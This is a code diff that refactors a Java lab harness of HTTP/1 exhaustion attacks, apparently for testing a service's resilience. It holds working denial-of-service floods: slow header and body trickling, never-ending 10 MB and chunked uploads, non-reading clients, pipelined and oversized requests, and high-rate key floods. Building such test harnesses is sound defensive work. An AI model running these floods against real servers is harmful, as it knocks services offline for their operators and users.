@@ -8,6 +8,7 @@ import dev.semel.attack.lab.Profile;
 import dev.semel.attack.lab.Wire;
 import java.io.IOException;
 import java.util.List;
+import java.util.function.Supplier;
 
 /** Floods of HTTP/1. */
 final class ExhaustionAttacks {
@@ -28,28 +29,26 @@ final class ExhaustionAttacks {
     }
 
     private static void bodies(Listing list) {
-        flood(list, "bodies-without-a-caller", "14 bodies of 10 MB without a caller", 14, (target, held) -> {
-            Wire wire = held.keep(target.connect());
-            wire.send(upload("nobody", "", TEN_MEGABYTES) + "Expect: 100-continue\r\n\r\n");
-            send(wire, TEN_MEGABYTES - 1);
-            held.rest();
-        });
-        flood(list, "unfinished-bodies", "14 bodies of 10 MB of one caller that never end", 14, (target, held) -> {
-            Wire wire = held.keep(target.connect());
-            wire.send(upload("unfinished", MALLORY, TEN_MEGABYTES) + "\r\n");
-            send(wire, TEN_MEGABYTES - 1);
-            held.rest();
-        });
-        flood(list, "uploads", "40 uploads of 10 MB", 40, (target, held) -> {
-            Wire wire = held.keep(target.connect());
-            wire.send(upload("upload", MALLORY, TEN_MEGABYTES) + "\r\n");
-            send(wire, TEN_MEGABYTES);
-            held.rest();
-        });
+        flood(
+                list,
+                "bodies-without-a-caller",
+                "14 bodies of 10 MB without a caller",
+                14,
+                upload(() -> freshKey("nobody"), "Expect: 100-continue\r\n", TEN_MEGABYTES - 1));
+        flood(
+                list,
+                "unfinished-bodies",
+                "14 bodies of 10 MB of one caller that never end",
+                14,
+                upload(() -> MALLORY + freshKey("unfinished"), "", TEN_MEGABYTES - 1));
+        flood(
+                list,
+                "uploads",
+                "40 uploads of 10 MB",
+                40,
+                upload(() -> MALLORY + freshKey("upload"), "", TEN_MEGABYTES));
         flood(list, "uploads-without-a-length", "40 chunked bodies without an end", 40, (target, held) -> {
-            Wire wire = held.keep(target.connect());
-            wire.send("POST /charges HTTP/1.1\r\n" + HOST + MALLORY + freshKey("chunked")
-                    + "Transfer-Encoding: chunked\r\n\r\n");
+            Wire wire = held.keep(target.connect()).send(chunked("chunked"));
             String chunk = "10000\r\n" + "x".repeat(0x10000) + "\r\n";
             for (int i = 0; i < 150 && !held.isOver(); i++) {
                 wire.send(chunk);
@@ -57,14 +56,11 @@ final class ExhaustionAttacks {
             held.rest();
         });
         flood(list, "slow-bodies", "200 bodies, five bytes a second", 200, (target, held) -> {
-            Wire wire = held.keep(target.connect());
-            wire.send(upload("slow", MALLORY, 100_000) + "\r\n");
-            trickle(wire, held, "x");
+            String head = post("/charges", MALLORY + freshKey("slow")) + "Content-Length: 100000\r\n\r\n";
+            trickle(held.keep(target.connect()).send(head), held, "x");
         });
         flood(list, "tiny-chunks", "8 bodies in chunks of one byte", 8, (target, held) -> {
-            Wire wire = held.keep(target.connect());
-            wire.send("POST /charges HTTP/1.1\r\n" + HOST + MALLORY + freshKey("tiny")
-                    + "Transfer-Encoding: chunked\r\n\r\n");
+            Wire wire = held.keep(target.connect()).send(chunked("tiny"));
             while (!held.isOver()) {
                 wire.send("1\r\nx\r\n".repeat(500));
                 Thread.sleep(20);
@@ -73,28 +69,22 @@ final class ExhaustionAttacks {
     }
 
     private static void streams(Listing list) {
-        flood(list, "event-streams", "300 event streams without a caller", 300, (target, held) -> {
-            held.keep(target.connect()).send("GET /search/events HTTP/1.1\r\n" + HOST + "\r\n");
-            held.rest();
-        });
-        flood(list, "tunnels", "300 tunnels without a caller", 300, (target, held) -> {
-            held.keep(target.connect())
-                    .send("GET /search/tunnel HTTP/1.1\r\n" + HOST
-                            + "Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n");
-            held.rest();
-        });
+        String upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\n";
+        flood(
+                list,
+                "event-streams",
+                "300 event streams without a caller",
+                300,
+                holding(() -> get("/search/events", "")));
+        flood(list, "tunnels", "300 tunnels without a caller", 300, holding(() -> get("/search/tunnel", upgrade)));
         flood(list, "slow-readers", "300 readers of 8 MB that do not read", 300, (target, held) -> {
-            held.keep(target.connectToReadLittle()).send("GET /search/big HTTP/1.1\r\n" + HOST + "\r\n");
+            held.keep(target.connectToReadLittle()).send(get("/search/big", ""));
             held.rest();
         });
-        flood(list, "slow-passes", "300 slow requests without a key", 300, (target, held) -> {
-            held.keep(target.connect()).send("GET /search/hold HTTP/1.1\r\n" + HOST + "\r\n");
-            held.rest();
-        });
+        flood(list, "slow-passes", "300 slow requests without a key", 300, holding(() -> get("/search/hold", "")));
         flood(list, "unread-replays", "900 replays of 900 KB that are not read", 300, (target, held) -> {
             Wire wire = held.keep(target.connectToReadLittle());
-            String request = "POST /charges/kept HTTP/1.1\r\n" + HOST + MALLORY + key("unread-replays")
-                    + "Content-Length: 2\r\n\r\n{}";
+            String request = small("/charges/kept", MALLORY + key("unread-replays"));
             wire.send(request);
             Thread.sleep(300);
             wire.send(request.repeat(2));
@@ -103,38 +93,14 @@ final class ExhaustionAttacks {
     }
 
     private static void keys(Listing list) {
-        flood(list, "slow-keys", "300 keys of one caller whose requests take 8 s", 300, (target, held) -> {
-            held.keep(target.connect())
-                    .send("POST /charges/hold HTTP/1.1\r\n" + HOST + MALLORY + freshKey("slow-key")
-                            + "Content-Length: 2\r\n\r\n{}");
-            held.rest();
-        });
-        flood(list, "many-keys", "new keys of one caller, 1,000 a second", 8, (target, held) -> {
-            Wire wire = held.keep(target.connect());
-            while (!held.isOver()) {
-                wire.send("POST /charges HTTP/1.1\r\n" + HOST + MALLORY + freshKey("many")
-                                + "Content-Length: 2\r\n\r\n{}")
-                        .answer();
-                Thread.sleep(8);
-            }
-        });
-        flood(list, "broken-requests", "keys of one caller whose outcome gets unknown", 4, (target, held) -> {
-            Wire wire = held.keep(target.connect());
-            while (!held.isOver()) {
-                wire.send("POST /charges/break HTTP/1.1\r\n" + HOST + MALLORY + freshKey("broken")
-                                + "Content-Length: 2\r\n\r\n{}")
-                        .answer();
-                Thread.sleep(20);
-            }
-        });
-        flood(list, "no-caller-flood", "requests without a caller, 1,000 a second", 8, (target, held) -> {
-            Wire wire = held.keep(target.connect());
-            while (!held.isOver()) {
-                wire.send("POST /charges HTTP/1.1\r\n" + HOST + freshKey("nobody") + "Content-Length: 2\r\n\r\n{}")
-                        .answer();
-                Thread.sleep(8);
-            }
-        });
+        Supplier<String> slow = () -> small("/charges/hold", MALLORY + freshKey("slow-key"));
+        Supplier<String> many = () -> small("/charges", MALLORY + freshKey("many"));
+        Supplier<String> broken = () -> small("/charges/break", MALLORY + freshKey("broken"));
+        Supplier<String> nobody = () -> small("/charges", freshKey("nobody"));
+        flood(list, "slow-keys", "300 keys of one caller whose requests take 8 s", 300, holding(slow));
+        flood(list, "many-keys", "new keys of one caller, 1,000 a second", 8, repeating(8, many));
+        flood(list, "broken-requests", "keys of one caller whose outcome gets unknown", 4, repeating(20, broken));
+        flood(list, "no-caller-flood", "requests without a caller, 1,000 a second", 8, repeating(8, nobody));
     }
 
     private static void connections(Listing list) {
@@ -149,17 +115,11 @@ final class ExhaustionAttacks {
             wire.send("GET /search HTTP/1.1\r\n" + HOST + "X-A: ");
             trickle(wire, held, "a");
         });
-        flood(list, "large-heads", "heads of 15 KB, 400 a second", 4, (target, held) -> {
-            Wire wire = held.keep(target.connect());
-            String head = "GET /search HTTP/1.1\r\n" + HOST + "X-A: b\r\n".repeat(1_800) + "\r\n";
-            while (!held.isOver()) {
-                wire.send(head).answer();
-                Thread.sleep(10);
-            }
-        });
+        String head = get("/search", "X-A: b\r\n".repeat(1_800));
+        flood(list, "large-heads", "heads of 15 KB, 400 a second", 4, repeating(10, () -> head));
         flood(list, "pipelined", "requests without end on 8 connections, no answer is read", 8, (target, held) -> {
             Wire wire = held.keep(target.connect());
-            String many = ("GET /search HTTP/1.1\r\n" + HOST + "\r\n").repeat(100);
+            String many = get("/search", "").repeat(100);
             while (!held.isOver()) {
                 wire.send(many);
                 Thread.sleep(100);
@@ -173,10 +133,16 @@ final class ExhaustionAttacks {
         });
     }
 
-    private static void send(Wire wire, int bytes) throws IOException {
-        for (int left = bytes; left > 0; left -= ZEROS.length) {
-            wire.send(left >= ZEROS.length ? ZEROS : new byte[left]);
-        }
+    /** Sends a head for 10 MB, and so many bytes of the body. */
+    private static Flood.Stream upload(Supplier<String> caller, String lines, int bytes) {
+        return (target, held) -> {
+            Wire wire = held.keep(target.connect());
+            wire.send(post("/charges", caller.get()) + "Content-Length: " + TEN_MEGABYTES + "\r\n" + lines + "\r\n");
+            for (int left = bytes; left > 0; left -= ZEROS.length) {
+                wire.send(left >= ZEROS.length ? ZEROS : new byte[left]);
+            }
+            held.rest();
+        };
     }
 
     private static void trickle(Wire wire, HeldConnections held, String piece)
@@ -187,8 +153,39 @@ final class ExhaustionAttacks {
         }
     }
 
-    private static String upload(String name, String caller, int length) {
-        return "POST /charges HTTP/1.1\r\n" + HOST + caller + freshKey(name) + "Content-Length: " + length + "\r\n";
+    private static String post(String path, String lines) {
+        return "POST " + path + " HTTP/1.1\r\n" + HOST + lines;
+    }
+
+    private static String small(String path, String lines) {
+        return post(path, lines) + "Content-Length: 2\r\n\r\n{}";
+    }
+
+    private static String chunked(String name) {
+        return post("/charges", MALLORY + freshKey(name)) + "Transfer-Encoding: chunked\r\n\r\n";
+    }
+
+    private static String get(String path, String lines) {
+        return "GET " + path + " HTTP/1.1\r\n" + HOST + lines + "\r\n";
+    }
+
+    /** Sends a request, and waits. */
+    private static Flood.Stream holding(Supplier<String> request) {
+        return (target, held) -> {
+            held.keep(target.connect()).send(request.get());
+            held.rest();
+        };
+    }
+
+    /** Sends one request after the other, with a pause after each answer. */
+    private static Flood.Stream repeating(long pauseMillis, Supplier<String> request) {
+        return (target, held) -> {
+            Wire wire = held.keep(target.connect());
+            while (!held.isOver()) {
+                wire.send(request.get()).answer();
+                Thread.sleep(pauseMillis);
+            }
+        };
     }
 
     private static void flood(Listing list, String name, String about, int connections, Flood.Stream stream) {
